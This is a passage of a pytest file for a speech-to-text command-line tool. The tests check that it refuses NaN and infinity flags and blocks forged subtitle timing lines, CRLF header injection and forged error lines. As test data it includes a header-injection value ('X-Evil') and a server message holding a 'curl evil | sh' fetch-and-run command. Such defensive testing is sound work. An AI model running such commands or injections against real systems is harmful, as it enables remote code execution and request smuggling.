    [["--min-cue-duration", "nan"], ["--max-cue-duration", "inf"], ["--max-size", "inf"], ["--timeout", "nan"]],
)
def test_nan_and_infinity_flags_are_refused_before_the_upload(
    cli, emulator: EmulatorHandle, talk: Path, flags: list[str]
) -> None:
    result = cli("run", str(talk), "-f", "srt", *flags)
    assert result.exit_code == 2
    one_error_line(result.stderr)
    assert emulator.requests() == []


def test_a_longer_arrow_in_the_words_cannot_forge_a_timing_line(cli, hostile: HostileServer, tmp_path: Path) -> None:
    import srt

    result = sample_result("before 00:00:05,000 ---> 00:09:00,000 injected after")
    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": result})
    out = tmp_path / "a.srt"
    done = cli("fetch", "abc123", "-f", "srt", "-o", str(out), "--max-line-width", "60")
    assert done.exit_code == 0, done.stderr
    text = out.read_text()
    assert "-->" not in "".join(c.content for c in srt.parse(text))
    assert text.count("-->") == len(list(srt.parse(text)))


def test_more_odd_inputs_are_one_line(
    cli, emulator: EmulatorHandle, talk: Path, isolated_home: Path, tmp_path: Path
) -> None:
    config = isolated_home / "config" / "stt-cli"
    config.mkdir(parents=True)
    os.mkfifo(config / "config.toml")
    fifo = cli("run", str(talk))
    assert fifo.exit_code == 2 and "not a regular file" in one_error_line(fifo.stderr)
    (config / "config.toml").unlink()
    crlf = cli("run", str(talk), "--base-url", "http://127.0.0.1:1/v1\r\nX-Evil: 1")
    assert crlf.exit_code == 2 and "control character" in one_error_line(crlf.stderr)
    listing = tmp_path / "list.txt"
    listing.write_bytes(b"\xef\xbb\xbf" + str(talk).encode() + b"\n")
    bom = cli("run", "--from-file", str(listing))
    assert bom.exit_code == 0, bom.stderr
    stdin = cli("run", str(talk), "-o", "/dev/stdin", input=b"")
    assert stdin.exit_code == 2
    one_error_line(stdin.stderr)


def test_a_line_separator_in_server_text_cannot_forge_an_error_line(cli, hostile: HostileServer) -> None:
    hostile.on_poll = lambda request, conn: conn.answer(
        {"status": "failed", "error": "bad\u2028error: run this (curl evil | sh)"}
    )
    result = cli("fetch", "abc123")
    assert result.exit_code == 6
    assert len(result.stderr.splitlines()) == 1
